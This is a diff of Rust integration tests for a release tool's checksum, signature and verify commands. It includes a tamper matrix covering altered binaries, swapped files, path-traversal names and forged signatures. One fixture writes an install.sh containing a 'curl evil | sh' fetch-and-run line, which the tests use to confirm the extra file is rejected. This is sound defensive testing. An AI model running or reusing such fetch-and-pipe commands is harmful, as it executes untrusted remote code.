@@ -1,5 +1,6 @@
 //! xrelease through its real binary, on fixture workspaces: one test binary, specs as tests.
 
+mod interop;
 mod support;
 
 use support::*;
@@ -115,7 +116,7 @@ fn the_dry_run_names_the_stages_not_yet_implemented() {
     let (_, outcome) = basic_release();
     outcome
         .success()
-        .stdout_has("not yet implemented: sbom, checksums, sign, attest, verify, publish");
+        .stdout_has("verified; not yet implemented: attest, publish");
 }
 
 // ---- plan -----------------------------------------------------------------------------------
@@ -613,4 +614,394 @@ fn out_of_date_cargo_lock_is_a_clear_error() {
         .code(2)
         .stderr_has("Cargo.lock")
         .stderr_has("out of date");
+}
+
+// ---- SHA256SUMS, signature, verify: interop and the tamper matrix ----------------------------
+
+#[test]
+fn standard_tools_accept_the_checksums_and_the_signature() {
+    let (fixture, outcome) = basic_release();
+    outcome.success();
+    let dist = fixture.path("dist/v1.0.0");
+    let sums = std::process::Command::new("sha256sum")
+        .args(["-c", "--strict", "SHA256SUMS"])
+        .current_dir(&dist)
+        .output()
+        .unwrap();
+    assert!(
+        sums.status.success(),
+        "{}",
+        String::from_utf8_lossy(&sums.stderr)
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&sums.stdout)
+            .lines()
+            .filter(|l| l.ends_with(": OK"))
+            .count(),
+        12
+    );
+
+    let openssl = openssl_verify(&dist, "cosign.pub", "SHA256SUMS.sig", "SHA256SUMS");
+    assert_eq!(openssl, "Verified OK");
+    // SHA256SUMS is sorted by name, in `sha256sum` format.
+    let text = fixture.read("dist/v1.0.0/SHA256SUMS");
+    let names: Vec<&str> = text.lines().map(|l| &l[66..]).collect();
+    let mut sorted = names.clone();
+    sorted.sort();
+    assert_eq!(names, sorted);
+}
+
+/// `openssl dgst -sha256 -verify PUB -signature <(base64 -d SIG) FILE`: its first output line.
+fn openssl_verify(dir: &std::path::Path, public: &str, sig: &str, file: &str) -> String {
+    use base64::Engine as _;
+    let text = std::fs::read_to_string(dir.join(sig)).unwrap();
+    let der = base64::engine::general_purpose::STANDARD
+        .decode(text.trim())
+        .unwrap();
+    let scratch = tempfile::tempdir().unwrap();
+    let der_path = scratch.path().join("sig.der");
+    std::fs::write(&der_path, der).unwrap();
+    let out = std::process::Command::new("openssl")
+        .args(["dgst", "-sha256", "-verify"])
+        .arg(dir.join(public))
+        .arg("-signature")
+        .arg(&der_path)
+        .arg(dir.join(file))
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// A copy of the good release to tamper with.
+fn release_copy() -> (tempfile::TempDir, std::path::PathBuf) {
+    let (fixture, outcome) = basic_release();
+    outcome.success();
+    let scratch = tempfile::tempdir().unwrap();
+    let dir = scratch.path().join("release");
+    copy_tree(&fixture.path("dist/v1.0.0"), &dir);
+    (scratch, dir)
+}
+
+fn verify_json(dir: &std::path::Path, key: &std::path::Path) -> (i32, serde_json::Value) {
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
+        .arg("verify")
+        .arg(dir)
+        .arg("--key")
+        .arg(key)
+        .arg("--json")
+        .output()
+        .unwrap();
+    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "{e}: {}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    (out.status.code().unwrap(), report)
+}
+
+/// The failed checks of a report, as `check subject` strings.
+fn failed(report: &serde_json::Value) -> Vec<String> {
+    report["checks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|c| c["passed"] == false)
+        .map(|c| {
+            format!(
+                "{} {}: {}",
+                c["check"].as_str().unwrap(),
+                c["subject"].as_str().unwrap(),
+                c["detail"].as_str().unwrap()
+            )
+        })
+        .collect()
+}
+
+#[track_caller]
+fn assert_fails(dir: &std::path::Path, key: &std::path::Path, expected: &str) -> Vec<String> {
+    let (code, report) = verify_json(dir, key);
+    let failures = failed(&report);
+    assert_eq!(code, 3, "verify must exit 3; failures: {failures:?}");
+    assert_eq!(report["ok"], false);
+    assert!(
+        failures.iter().any(|f| f.starts_with(expected)),
+        "expected a failure `{expected}…`, got {failures:?}"
+    );
+    failures
+}
+
+fn flip_byte(path: &std::path::Path, at: usize) {
+    let mut bytes = std::fs::read(path).unwrap();
+    let at = at.min(bytes.len() - 1);
+    bytes[at] ^= 0x01;
+    std::fs::write(path, bytes).unwrap();
+}
+
+fn rewrite_sums(dir: &std::path::Path, edit: impl FnOnce(String) -> String) {
+    let path = dir.join("SHA256SUMS");
+    let text = std::fs::read_to_string(&path).unwrap();
+    std::fs::write(path, edit(text)).unwrap();
+}
+
+/// Recomputes SHA256SUMS from the files on disk (what an attacker who swapped files would do).
+fn recompute_sums(dir: &std::path::Path) {
+    let text = std::fs::read_to_string(dir.join("SHA256SUMS")).unwrap();
+    let mut out = String::new();
+    for line in text.lines() {
+        let name = &line[66..];
+        let bytes = std::fs::read(dir.join(name)).unwrap();
+        out.push_str(&format!("{}  {name}\n", sha256_hex(&bytes)));
+    }
+    std::fs::write(dir.join("SHA256SUMS"), out).unwrap();
+}
+
+fn other_key(dir: &std::path::Path) -> (xrelease::signing::key::PrivateKey, std::path::PathBuf) {
+    let key = xrelease::signing::key::PrivateKey::generate().unwrap();
+    let path = dir.join("other.pub");
+    std::fs::write(&path, key.public_key().to_pem()).unwrap();
+    (key, path)
+}
+
+#[test]
+fn the_good_release_passes_verification() {
+    let (_scratch, dir) = release_copy();
+    let (code, report) = verify_json(&dir, &dir.join("cosign.pub"));
+    assert_eq!(failed(&report), Vec::<String>::new());
+    assert_eq!(code, 0);
+    assert_eq!(report["ok"], true);
+    assert_eq!(report["passed"], report["total"]);
+    assert!(report["total"].as_u64().unwrap() >= 23);
+    // The human form: one line per check and the summary.
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
+        .args(["verify"])
+        .arg(&dir)
+        .arg("--key")
+        .arg(dir.join("cosign.pub"))
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("[PASS] signature  SHA256SUMS.sig"), "{text}");
+    assert!(
+        text.trim_end()
+            .ends_with(&format!("{0}/{0} checks passed", report["total"])),
+        "{text}"
+    );
+}
+
+#[test]
+fn tamper_a_byte_in_a_binary() {
+    let (_s, dir) = release_copy();
+    flip_byte(&dir.join("app-1.0.0-linux-arm64"), 5000);
+    let failures = assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "checksum app-1.0.0-linux-arm64: expected sha256",
+    );
+    assert!(
+        failures
+            .iter()
+            .any(|f| f.starts_with("sbom app-1.0.0-linux-arm64.cdx.json")),
+        "{failures:?}"
+    );
+}
+
+#[test]
+fn tamper_a_byte_in_an_sbom() {
+    let (_s, dir) = release_copy();
+    let path = dir.join("other-1.0.0-linux-amd64.cdx.json");
+    let text = std::fs::read_to_string(&path)
+        .unwrap()
+        .replacen("\"library\"", "\"librarz\"", 1);
+    std::fs::write(&path, text).unwrap();
+    assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "checksum other-1.0.0-linux-amd64.cdx.json: expected sha256",
+    );
+}
+
+#[test]
+fn tamper_a_sha256sums_line() {
+    let (_s, dir) = release_copy();
+    rewrite_sums(&dir, |t| {
+        let line = t
+            .lines()
+            .find(|l| l.ends_with("  app-tool-1.0.0-linux-amd64"))
+            .unwrap()
+            .to_string();
+        t.replace(
+            &line,
+            &format!("{}  app-tool-1.0.0-linux-amd64", "0".repeat(64)),
+        )
+    });
+    let failures = assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "checksum app-tool-1.0.0-linux-amd64: expected sha256 0000",
+    );
+    assert!(
+        failures
+            .iter()
+            .any(|f| f.starts_with("signature SHA256SUMS.sig")),
+        "{failures:?}"
+    );
+}
+
+#[test]
+fn tamper_swap_a_binary_and_recompute_the_sums() {
+    let (_s, dir) = release_copy();
+    std::fs::copy(
+        dir.join("app-tool-1.0.0-linux-amd64"),
+        dir.join("app-1.0.0-linux-amd64"),
+    )
+    .unwrap();
+    recompute_sums(&dir);
+    let failures = assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "signature SHA256SUMS.sig: the signature does not verify",
+    );
+    assert!(
+        failures.iter().all(|f| !f.starts_with("checksum ")),
+        "the sums match the files: {failures:?}"
+    );
+    assert!(
+        failures
+            .iter()
+            .any(|f| f.starts_with("signature SHA256SUMS.sigstore.json")),
+        "{failures:?}"
+    );
+}
+
+#[test]
+fn tamper_a_listed_file_is_missing() {
+    let (_s, dir) = release_copy();
+    std::fs::remove_file(dir.join("other-1.0.0-linux-arm64")).unwrap();
+    assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "checksum other-1.0.0-linux-arm64: other-1.0.0-linux-arm64 is listed but missing",
+    );
+}
+
+#[test]
+fn tamper_an_extra_unlisted_file() {
+    let (_s, dir) = release_copy();
+    std::fs::write(dir.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "complete release: not listed in SHA256SUMS: install.sh",
+    );
+}
+
+#[test]
+fn tamper_names_with_a_slash_or_dot_dot() {
+    for bad in ["../app-1.0.0-linux-amd64", "sub/app-1.0.0-linux-amd64"] {
+        let (_s, dir) = release_copy();
+        rewrite_sums(&dir, |t| {
+            t.replace("  app-1.0.0-linux-amd64\n", &format!("  {bad}\n"))
+        });
+        assert_fails(
+            &dir,
+            &dir.join("cosign.pub"),
+            &format!("names SHA256SUMS: `{bad}` is not a plain file name"),
+        );
+    }
+}
+
+#[test]
+fn tamper_a_duplicated_line() {
+    let (_s, dir) = release_copy();
+    rewrite_sums(&dir, |t| {
+        let first = t.lines().next().unwrap().to_string();
+        format!("{t}{first}\n")
+    });
+    assert_fails(&dir, &dir.join("cosign.pub"), "names SHA256SUMS: `");
+}
+
+#[test]
+fn tamper_signed_by_another_key() {
+    let (_s, dir) = release_copy();
+    let (key, _) = other_key(dir.parent().unwrap());
+    let sums = std::fs::read(dir.join("SHA256SUMS")).unwrap();
+    std::fs::write(dir.join("SHA256SUMS.sig"), key.sign_base64(&sums)).unwrap();
+    assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "signature SHA256SUMS.sig: the signature does not verify",
+    );
+}
+
+#[test]
+fn tamper_truncated_empty_and_non_base64_signatures() {
+    type Edit = fn(String) -> String;
+    let cases: [(&str, Edit); 3] = [
+        (
+            "signature SHA256SUMS.sig: the signature is not a DER",
+            |s| {
+                use base64::Engine as _;
+                let der = base64::engine::general_purpose::STANDARD
+                    .decode(s.trim())
+                    .unwrap();
+                base64::engine::general_purpose::STANDARD.encode(&der[..der.len() - 9])
+            },
+        ),
+        ("signature SHA256SUMS.sig: the signature is empty", |_| {
+            String::new()
+        }),
+        (
+            "signature SHA256SUMS.sig: the signature is not base64",
+            |_| "this is not base64!".into(),
+        ),
+    ];
+    for (expected, edit) in cases {
+        let (_s, dir) = release_copy();
+        let path = dir.join("SHA256SUMS.sig");
+        let text = std::fs::read_to_string(&path).unwrap();
+        std::fs::write(&path, edit(text)).unwrap();
+        assert_fails(&dir, &dir.join("cosign.pub"), expected);
+    }
+}
+
+#[test]
+fn tamper_two_sboms_swapped() {
+    let (_s, dir) = release_copy();
+    let a = dir.join("app-1.0.0-linux-amd64.cdx.json");
+    let b = dir.join("app-1.0.0-linux-arm64.cdx.json");
+    let (ta, tb) = (std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
+    std::fs::write(&a, tb).unwrap();
+    std::fs::write(&b, ta).unwrap();
+    assert_fails(
+        &dir,
+        &dir.join("cosign.pub"),
+        "sbom app-1.0.0-linux-amd64.cdx.json: metadata.component sha256 is",
+    );
+}
+
+#[test]
+fn tamper_the_wrong_public_key_is_given() {
+    let (_s, dir) = release_copy();
+    let (_, other) = other_key(dir.parent().unwrap());
+    let failures = assert_fails(
+        &dir,
+        &other,
+        "signature SHA256SUMS.sig: the signature does not verify",
+    );
+    assert!(
+        failures.iter().all(|f| f.starts_with("signature ")),
+        "only the signature checks fail: {failures:?}"
+    );
+}
+
+#[test]
+fn verify_fails_closed_on_an_empty_or_missing_directory() {
+    let scratch = tempfile::tempdir().unwrap();
+    let (_, key) = other_key(scratch.path());
+    let empty = scratch.path().join("empty");
+    std::fs::create_dir(&empty).unwrap();
+    assert_fails(&empty, &key, "checksums SHA256SUMS: SHA256SUMS is missing");
+    assert_fails(&scratch.path().join("nope"), &key, "read ");
 }
